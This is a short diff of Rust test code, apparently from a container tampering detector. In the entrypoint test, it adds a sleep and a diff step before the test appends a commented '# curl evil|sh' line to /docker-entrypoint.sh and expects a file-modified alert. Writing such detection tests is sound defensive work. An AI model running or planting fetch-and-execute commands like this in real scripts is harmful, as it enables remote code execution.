@@ -246,6 +246,10 @@ fn a34_persistence(node: &Node) -> anyhow::Result<()> {
 
 fn a35_entry_point(node: &Node) -> anyhow::Result<()> {
     let container = node.container_with_entry_point()?;
+    // Where it was marked late, the script that init runs is looked at a moment later: the
+    // image's until then.
+    std::thread::sleep(crate::node::SETTLE);
+    container.diff()?;
     container.sh("echo '# curl evil|sh' >> /docker-entrypoint.sh")?;
     let changed = [
         "medium file.modified /docker-entrypoint.sh",
